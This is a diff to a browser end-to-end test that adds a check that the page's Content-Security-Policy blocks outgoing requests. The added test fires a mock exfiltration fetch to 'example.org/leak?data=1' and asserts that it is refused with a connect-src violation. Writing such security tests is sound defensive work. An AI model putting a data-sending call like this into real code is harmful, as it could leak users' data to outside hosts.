@@ -47,6 +47,20 @@ test("the pane starts standalone in a plain browser, in Vietnamese, and requests
   expect(requests.filter((url) => !isLocal(url))).toEqual([]);
   expect(errors).toEqual([]);
   await page.screenshot({ path: path.join(screenshotDir, "standalone.png"), fullPage: true });
+
+  // The Content-Security-Policy lets the page talk to its own origin only: a request elsewhere never leaves.
+  const outcome = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+    const fetched = await fetch("https://example.org/leak?data=1").then(
+      () => "sent",
+      () => "refused",
+    );
+    await new Promise((resolve) => setTimeout(resolve, 200)); // the violation report comes after the refusal
+    return { fetched, violations };
+  });
+  expect(outcome).toEqual({ fetched: "refused", violations: ["connect-src"] });
+  expect(requests.filter((url) => !isLocal(url))).toEqual([]);
 });
 
 test("a full session on the sample workbook: check, select, highlight, insert, English", async () => {
